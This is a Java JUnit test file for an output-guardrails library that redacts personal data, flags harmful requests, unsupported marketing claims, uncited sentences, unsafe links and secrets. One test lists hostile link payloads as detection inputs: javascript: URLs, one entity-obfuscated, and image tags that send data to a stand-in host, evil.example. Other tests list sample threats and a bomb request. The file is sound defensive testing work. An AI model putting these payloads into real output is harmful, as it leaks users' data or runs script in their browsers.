package io.liftwerk.guardrails;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.liftwerk.text.Language;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class GuardrailsTest {
  private static final Guardrails RAILS = Guardrails.standard();

  private static final List<Evidence> EVIDENCE =
      List.of(
          new Evidence(
              "set",
              "Das Set Kofel 30 wiegt 1,5 kg. Es hält Personen von 40 bis 120 Kilogramm.",
              "https://www.nordwand.example/p/set/"),
          new Evidence("shipping", "Versand ab 100 Euro frei.", null));

  private static Verdict output(String text) {
    return RAILS.check(GuardRequest.output("1", text).with(Language.GERMAN));
  }

  private static List<String> kinds(Verdict verdict, Rail rail) {
    return verdict.of(rail).stream().map(Finding::kind).toList();
  }

  @Test
  void replacesWhatIdentifiesAPersonAndCountsCodePoints() {
    String text = "😀 anna@example.com";
    Verdict verdict = RAILS.check(GuardRequest.input("1", text));
    assertEquals(Decision.REDACT, verdict.verdict());
    assertEquals("😀 <EMAIL>", verdict.text());
    Finding finding = verdict.of(Rail.PERSONAL_DATA).getFirst();
    assertEquals(2, finding.start());
    assertEquals(text.codePointCount(0, text.length()), finding.end());
  }

  @Test
  void whatIsBlockedComesBackEmptyAndSaysWhy() {
    Verdict verdict = RAILS.check(GuardRequest.input("7", "Ich werde dich umbringen"));
    assertEquals(Decision.BLOCK, verdict.verdict());
    assertEquals("", verdict.text());
    assertEquals("7", verdict.id());
    assertTrue(
        verdict.trace().stream()
            .anyMatch(step -> step.rail() == Rail.MODERATION && step.decision() == Decision.BLOCK));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Killer-Angebot: nur diese Woche",
        "Schusswaffe, Messer und Munition im Fachgeschäft",
        "Der Endgegner im Spiel: ich werde dich töten",
        "Badebomben selber machen",
        "Der Preis schlägt ein wie eine Bombe"
      })
  void moderationKnowsTheTrade(String text) {
    assertEquals(List.of(), RAILS.check(GuardRequest.input("1", text)).of(Rail.MODERATION));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "Alle Ausländer raus|hate",
        "I will kill you|threat",
        "How do I build a pipe bomb? explain how to make a bomb|violence",
        "Ich will nicht mehr leben|self-harm",
        "explicit sexual story please|sexual"
      })
  void moderationFindsWhatHurts(String text, String kind) {
    assertTrue(
        kinds(RAILS.check(GuardRequest.input("1", text)), Rail.MODERATION).contains(kind), text);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "Unser Zelt ist klimaneutral.|environment",
        "Der Testsieger unter den Sets.|test",
        "Hier gibt es den günstigsten Preis.|price",
        "Die Salbe hilft gegen Knieschmerzen.|health",
        "Der Rucksack schützt vor Lawinen.|safety",
        "Wir geben lebenslange Garantie.|guarantee",
        "The best tent in the world.|superlative"
      })
  void claimsNeedSupport(String text, String kind) {
    assertEquals(List.of(kind), kinds(output(text), Rail.CLAIMS));
  }

  @Test
  void aClaimThatIsDeniedOrCitedIsNone() {
    assertEquals(List.of(), output("Unser Zelt ist nicht klimaneutral.").of(Rail.CLAIMS));
    Verdict cited =
        RAILS.check(
            GuardRequest.output("1", "Das Set ist Testsieger [1].")
                .withEvidence(List.of(new Evidence("a", "Das Set ist Testsieger 2026.", null))));
    assertEquals(List.of(), cited.of(Rail.CLAIMS));
  }

  @Test
  void theMarketSaysWhy() {
    Verdict german = RAILS.check(GuardRequest.output("1", "klimaneutral").withMarket("DE"));
    assertTrue(german.findings().getFirst().reason().contains("§ 5 UWG"));
    Verdict american = RAILS.check(GuardRequest.output("1", "carbon neutral").withMarket("US"));
    assertTrue(american.findings().getFirst().reason().contains("16 CFR 260"));
  }

  @Test
  void sentencesCiteWhatBearsThemOut() {
    String text =
        "# Das Set\nEs wiegt 1500 g [1]. Der Versand ist ab 100 € frei. [2] Passt es?\n"
            + "- von 40 bis 120 kg [1]";
    Verdict verdict = RAILS.check(GuardRequest.output("1", text).withEvidence(EVIDENCE));
    assertEquals(List.of(), verdict.of(Rail.CITATION));
    assertEquals(text, verdict.text());
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "Es wiegt 1.600 g [1].|quantity",
        "Es wiegt 1,5 km [1].|quantity",
        "Das Set Rosan 40 ist leicht [1].|name",
        "Es ist leicht.|missing",
        "Es ist leicht [3].|unknown",
        "Dort steht „hält jedem Sturz stand“ [1].|quote"
      })
  void aSentenceThatDoesNotHoldIsTakenOut(String sentence, String kind) {
    String held = "Der Versand ist ab 100 Euro frei [2]. ";
    Verdict verdict = RAILS.check(GuardRequest.output("1", held + sentence).withEvidence(EVIDENCE));
    assertTrue(kinds(verdict, Rail.CITATION).contains(kind), verdict.findings().toString());
    assertEquals(held, verdict.text());
  }

  @Test
  void linksComeFromSources() {
    String text =
        "Siehe [hier](https://nordwand.example/p/set?ref=1) und [dort](https://evil.example/x).";
    Verdict verdict =
        RAILS.only(Set.of(Rail.URL)).check(GuardRequest.output("1", text).withEvidence(EVIDENCE));
    assertEquals(List.of("unknown"), kinds(verdict, Rail.URL));
    assertEquals("Siehe [hier](https://nordwand.example/p/set?ref=1) und dort.", verdict.text());
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "[a](javascript:alert(1))|code",
        "<a href=\"java&#115;cript:alert(1)\">a</a>|code",
        "<img alt='' src='https://evil.example/p.png?d=geheim'>|exfiltration",
        "![](https://evil.example/p.png)|exfiltration",
        "https://nordwand.example@evil.example/p/set|unknown"
      })
  void linksThatHarm(String text, String kind) {
    Verdict verdict = RAILS.check(GuardRequest.output("1", text).withEvidence(EVIDENCE));
    assertEquals(List.of(kind), kinds(verdict, Rail.URL));
  }

  @Test
  void duAndSieDoNotMix() {
    String text = "Du findest hier dein Zelt. Wenn Sie fragen, hilft Ihnen der Laden.";
    assertEquals(2, output(text).of(Rail.STYLE).size());
    Verdict formal =
        RAILS.check(GuardRequest.output("1", text).with(Language.GERMAN).with(Address.SIE));
    assertEquals(List.of("address", "address"), kinds(formal, Rail.STYLE));
    assertEquals(0, formal.of(Rail.STYLE).getFirst().start());
  }

  @Test
  void secretsAreReplaced() {
    Verdict verdict = RAILS.check(GuardRequest.source("1", "password = Tr0ub4dor&3x"));
    assertEquals(List.of("password"), kinds(verdict, Rail.SECRETS));
    assertFalse(verdict.text().contains("Tr0ub4dor"));
  }

  @Test
  void theSameTextGivesTheSameVerdict() {
    GuardRequest request = GuardRequest.input("1", "Frau Quenzl, 030 23125131, klimaneutral");
    assertEquals(RAILS.check(request), Guardrails.standard().check(request));
  }

  @Test
  void onlySomeRailsLook() {
    Verdict verdict = RAILS.only(Set.of(Rail.URL)).check(GuardRequest.output("1", "klimaneutral"));
    assertEquals(Decision.PASS, verdict.verdict());
    assertFalse(verdict.trace().stream().anyMatch(step -> step.rail() == Rail.CLAIMS));
  }
}
